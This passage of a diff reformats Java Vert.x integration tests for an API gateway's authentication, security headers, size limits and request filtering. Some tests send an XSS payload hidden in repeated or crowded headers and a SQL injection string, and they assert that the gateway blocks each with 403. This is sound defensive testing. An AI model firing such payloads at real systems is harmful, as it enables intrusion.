-      assertThat(good.result().statusCode()).isEqualTo(200);
-      assertThat(good.result().bodyAsJsonObject().getJsonObject("config")).isNotNull();
-      for (HttpResponse<Buffer> response : List.of(none.result(), viewerWrites.result(), good.result())) {
-        assertThat(response.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
-        assertThat(response.getHeader("X-Frame-Options")).isEqualTo("DENY");
-        assertThat(response.getHeader("Referrer-Policy")).isEqualTo("no-referrer");
-        assertThat(response.getHeader("Cache-Control")).isEqualTo("no-store");
-        assertThat(response.getHeader("Strict-Transport-Security")).isNull();
-      }
-      test.completeNow();
-    })));
+    Future<HttpResponse<Buffer>> bad =
+        client.get("/api/v1/config").bearerTokenAuthentication("not.a.token").send();
+    Future<HttpResponse<Buffer>> viewerWrites =
+        client
+            .put("/api/v1/config/trading.dry_run")
+            .bearerTokenAuthentication(viewerToken)
+            .sendJsonObject(new JsonObject().put("value", true));
+    Future<HttpResponse<Buffer>> good =
+        client.get("/api/v1/config").bearerTokenAuthentication(viewerToken).send();
+    Future.all(none, bad, viewerWrites, good)
+        .onComplete(
+            test.succeeding(
+                all ->
+                    test.verify(
+                        () -> {
+                          assertThat(none.result().statusCode()).isEqualTo(401);
+                          assertThat(none.result().bodyAsJsonObject().getString("detail"))
+                              .isEqualTo("missing bearer token");
+                          assertThat(bad.result().statusCode()).isEqualTo(401);
+                          assertThat(bad.result().bodyAsJsonObject().getString("detail"))
+                              .startsWith("token rejected: ");
+                          assertThat(viewerWrites.result().statusCode()).isEqualTo(403);
+                          assertThat(good.result().statusCode()).isEqualTo(200);
+                          assertThat(good.result().bodyAsJsonObject().getJsonObject("config"))
+                              .isNotNull();
+                          for (HttpResponse<Buffer> response :
+                              List.of(none.result(), viewerWrites.result(), good.result())) {
+                            assertThat(response.getHeader("X-Content-Type-Options"))
+                                .isEqualTo("nosniff");
+                            assertThat(response.getHeader("X-Frame-Options")).isEqualTo("DENY");
+                            assertThat(response.getHeader("Referrer-Policy"))
+                                .isEqualTo("no-referrer");
+                            assertThat(response.getHeader("Cache-Control")).isEqualTo("no-store");
+                            assertThat(response.getHeader("Strict-Transport-Security")).isNull();
+                          }
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("health routes answer without a token and carry the security headers; a too large body is 413")
+  @DisplayName(
+      "health routes answer without a token and carry the security headers; a too large body is 413")
   void outsideTheChain(VertxTestContext test) {
     Future<HttpResponse<Buffer>> live = client.get("/health/live").send();
-    Future<HttpResponse<Buffer>> large = client.post("/api/v1/security/scan").bearerTokenAuthentication(adminToken)
-      .putHeader("Content-Type", "application/json").sendBuffer(Buffer.buffer(new byte[2 * 1024 * 1024]));
-    Future.all(live, large).onComplete(test.succeeding(all -> test.verify(() -> {
-      assertThat(live.result().statusCode()).isEqualTo(200);
-      assertThat(live.result().getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
-      assertThat(live.result().getHeader("Cache-Control")).isNull();
-      assertThat(large.result().statusCode()).isEqualTo(413);
-      assertThat(large.result().getHeader("Content-Type")).isEqualTo(Problem.CONTENT_TYPE);
-      test.completeNow();
-    })));
+    Future<HttpResponse<Buffer>> large =
+        client
+            .post("/api/v1/security/scan")
+            .bearerTokenAuthentication(adminToken)
+            .putHeader("Content-Type", "application/json")
+            .sendBuffer(Buffer.buffer(new byte[2 * 1024 * 1024]));
+    Future.all(live, large)
+        .onComplete(
+            test.succeeding(
+                all ->
+                    test.verify(
+                        () -> {
+                          assertThat(live.result().statusCode()).isEqualTo(200);
+                          assertThat(live.result().getHeader("X-Content-Type-Options"))
+                              .isEqualTo("nosniff");
+                          assertThat(live.result().getHeader("Cache-Control")).isNull();
+                          assertThat(large.result().statusCode()).isEqualTo(413);
+                          assertThat(large.result().getHeader("Content-Type"))
+                              .isEqualTo(Problem.CONTENT_TYPE);
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("an attack in the second value of a repeated header, or behind 40 harmless headers, is refused with 403")
+  @DisplayName(
+      "an attack in the second value of a repeated header, or behind 40 harmless headers, is refused with 403")
   void attacksInHeaders(VertxTestContext test) {
     String xss = "<img src=x onerror=alert(1)>";
-    Future<HttpResponse<Buffer>> repeated = client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken)
-      .putHeader("X-Note", List.of("hello", xss)).send();
+    Future<HttpResponse<Buffer>> repeated =
+        client
+            .get("/api/v1/auth/me")
+            .bearerTokenAuthentication(viewerToken)
+            .putHeader("X-Note", List.of("hello", xss))
+            .send();
     var many = client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken);
     for (int i = 0; i < 40; i++) {
       many.putHeader("X-Filler-" + i, "value " + i);
     }
-    Future<HttpResponse<Buffer>> crowded = many.putHeader("X-Filler-7", List.of("value 7", xss)).send();
-    Future<HttpResponse<Buffer>> clean = client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken)
-      .putHeader("X-Note", List.of("hello", "world")).send();
-    Future.all(repeated, crowded, clean).onComplete(test.succeeding(all -> test.verify(() -> {
-      assertThat(repeated.result().statusCode()).isEqualTo(403);
-      assertThat(crowded.result().statusCode()).isEqualTo(403);
-      assertThat(crowded.result().bodyAsJsonObject().getString("detail")).isEqualTo("request blocked");
-      assertThat(clean.result().statusCode()).isEqualTo(200);
-      test.completeNow();
-    })));
+    Future<HttpResponse<Buffer>> crowded =
+        many.putHeader("X-Filler-7", List.of("value 7", xss)).send();
+    Future<HttpResponse<Buffer>> clean =
+        client
+            .get("/api/v1/auth/me")
+            .bearerTokenAuthentication(viewerToken)
+            .putHeader("X-Note", List.of("hello", "world"))
+            .send();
+    Future.all(repeated, crowded, clean)
+        .onComplete(
+            test.succeeding(
+                all ->
+                    test.verify(
+                        () -> {
+                          assertThat(repeated.result().statusCode()).isEqualTo(403);
+                          assertThat(crowded.result().statusCode()).isEqualTo(403);
+                          assertThat(crowded.result().bodyAsJsonObject().getString("detail"))
+                              .isEqualTo("request blocked");
+                          assertThat(clean.result().statusCode()).isEqualTo(200);
+                          test.completeNow();
+                        })));
   }
 
   @Test
-  @DisplayName("GET /auth/me names the caller with roles and token expiry; without a valid token it is 401")
+  @DisplayName(
+      "GET /auth/me names the caller with roles and token expiry; without a valid token it is 401")
   void whoAmI(VertxTestContext test) {
-    Future<HttpResponse<Buffer>> me = client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken).send();
+    Future<HttpResponse<Buffer>> me =
+        client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken).send();
     Future<HttpResponse<Buffer>> none = client.get("/api/v1/auth/me").send();
-    Future<HttpResponse<Buffer>> bad = client.get("/api/v1/auth/me").bearerTokenAuthentication("not.a.token").send();
-    Future.all(me, none, bad).onComplete(test.succeeding(all -> test.verify(() -> {
-      assertThat(me.result().statusCode()).isEqualTo(200);
-      JsonObject caller = me.result().bodyAsJsonObject();
-      assertThat(caller.getString("user")).isEqualTo("edgeviewer");
-      assertThat(caller.getJsonArray("roles")).containsExactly("viewer");
-      assertThat(caller.getJsonArray("permissions")).contains("*:read");
-      assertThat(java.time.Instant.parse(caller.getString("expires_at"))).isAfter(java.time.Instant.now());
-      assertThat(me.result().getHeader("Cache-Control")).isEqualTo("no-store");
-      assertThat(none.result().statusCode()).isEqualTo(401);
-      assertThat(none.result().bodyAsJsonObject().getString("detail")).isEqualTo("missing bearer token");
-      assertThat(bad.result().statusCode()).isEqualTo(401);
-      test.completeNow();
-    })));
+    Future<HttpResponse<Buffer>> bad =
+        client.get("/api/v1/auth/me").bearerTokenAuthentication("not.a.token").send();
+    Future.all(me, none, bad)
+        .onComplete(
+            test.succeeding(
+                all ->
+                    test.verify(
+                        () -> {
+                          assertThat(me.result().statusCode()).isEqualTo(200);
+                          JsonObject caller = me.result().bodyAsJsonObject();
+                          assertThat(caller.getString("user")).isEqualTo("edgeviewer");
+                          assertThat(caller.getJsonArray("roles")).containsExactly("viewer");
+                          assertThat(caller.getJsonArray("permissions")).contains("*:read");
+                          assertThat(java.time.Instant.parse(caller.getString("expires_at")))
+                              .isAfter(java.time.Instant.now());
+                          assertThat(me.result().getHeader("Cache-Control")).isEqualTo("no-store");
+                          assertThat(none.result().statusCode()).isEqualTo(401);
+                          assertThat(none.result().bodyAsJsonObject().getString("detail"))
+                              .isEqualTo("missing bearer token");
+                          assertThat(bad.result().statusCode()).isEqualTo(401);
+                          test.completeNow();
+                        })));
   }
 
   @Test
   @DisplayName("without the in-process gate the chain takes the same decisions over the bus")
   void overTheBus(Vertx vertx, VertxTestContext test) {
-    EdgeGate local = LocalServices.lookup(vertx, LocalServices.EDGE_GATE, EdgeGate.class).orElseThrow();
+    EdgeGate local =
+        LocalServices.lookup(vertx, LocalServices.EDGE_GATE, EdgeGate.class).orElseThrow();
     LocalServices.withdraw(vertx, LocalServices.EDGE_GATE, local);
-    java.util.concurrent.atomic.AtomicInteger overBus = new java.util.concurrent.atomic.AtomicInteger();
-    io.vertx.core.Handler<io.vertx.core.eventbus.DeliveryContext<Object>> counter = delivery -> {
-      String address = delivery.message().address();
-      if (address.equals(Addresses.SECURITY_EDGE_ADMIT) || address.equals(Addresses.SECURITY_EDGE_INSPECT)) {
-        overBus.incrementAndGet();
-      }
-      delivery.next();
-    };
+    java.util.concurrent.atomic.AtomicInteger overBus =
+        new java.util.concurrent.atomic.AtomicInteger();
+    io.vertx.core.Handler<io.vertx.core.eventbus.DeliveryContext<Object>> counter =
+        delivery -> {
+          String address = delivery.message().address();
+          if (address.equals(Addresses.SECURITY_EDGE_ADMIT)
+              || address.equals(Addresses.SECURITY_EDGE_INSPECT)) {
+            overBus.incrementAndGet();
+          }
+          delivery.next();
+        };
     vertx.eventBus().addOutboundInterceptor(counter);
     Future<HttpResponse<Buffer>> attack = attack("sqli", "1' or '1'='1");
     Future<HttpResponse<Buffer>> none = client.get("/api/v1/config").send();
-    Future<HttpResponse<Buffer>> viewerWrites = client.put("/api/v1/config/trading.dry_run")
-      .bearerTokenAuthentication(viewerToken).sendJsonObject(new JsonObject().put("value", true));
-    Future<HttpResponse<Buffer>> me = client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken).send();
-    Future.join(attack, none, viewerWrites, me).onComplete(done -> {
-      LocalServices.publish(vertx, LocalServices.EDGE_GATE, local);
-      vertx.eventBus().removeOutboundInterceptor(counter);
-      test.verify(() -> {
-        assertThat(overBus.get()).as("decisions over the bus: two per request").isEqualTo(8);
-        assertThat(done.succeeded()).as(String.valueOf(done.cause())).isTrue();
-        assertThat(attack.result().statusCode()).isEqualTo(403);
-        assertThat(attack.result().bodyAsJsonObject().getString("detail")).isEqualTo("request blocked");
-        assertThat(none.result().statusCode()).isEqualTo(401);
-        assertThat(viewerWrites.result().statusCode()).isEqualTo(403);
-        assertThat(me.result().statusCode()).isEqualTo(200);
-        assertThat(me.result().bodyAsJsonObject().getString("user")).isEqualTo("edgeviewer");
-        assertThat(me.result().getHeader("RateLimit-Policy")).isNotBlank();
-      });
-      test.completeNow();
-    });
+    Future<HttpResponse<Buffer>> viewerWrites =
+        client
+            .put("/api/v1/config/trading.dry_run")
+            .bearerTokenAuthentication(viewerToken)
+            .sendJsonObject(new JsonObject().put("value", true));
+    Future<HttpResponse<Buffer>> me =
+        client.get("/api/v1/auth/me").bearerTokenAuthentication(viewerToken).send();
+    Future.join(attack, none, viewerWrites, me)
+        .onComplete(
+            done -> {
+              LocalServices.publish(vertx, LocalServices.EDGE_GATE, local);
+              vertx.eventBus().removeOutboundInterceptor(counter);
+              test.verify(
+                  () -> {
+                    assertThat(overBus.get())
+                        .as("decisions over the bus: two per request")
+                        .isEqualTo(8);
+                    assertThat(done.succeeded()).as(String.valueOf(done.cause())).isTrue();
+                    assertThat(attack.result().statusCode()).isEqualTo(403);
+                    assertThat(attack.result().bodyAsJsonObject().getString("detail"))
+                        .isEqualTo("request blocked");
+                    assertThat(none.result().statusCode()).isEqualTo(401);
+                    assertThat(viewerWrites.result().statusCode()).isEqualTo(403);
+                    assertThat(me.result().statusCode()).isEqualTo(200);
+                    assertThat(me.result().bodyAsJsonObject().getString("user"))
+                        .isEqualTo("edgeviewer");
+                    assertThat(me.result().getHeader("RateLimit-Policy")).isNotBlank();
+                  });
+              test.completeNow();
+            });
   }
 
   private static Future<Void> delay(Vertx vertx, long ms) {
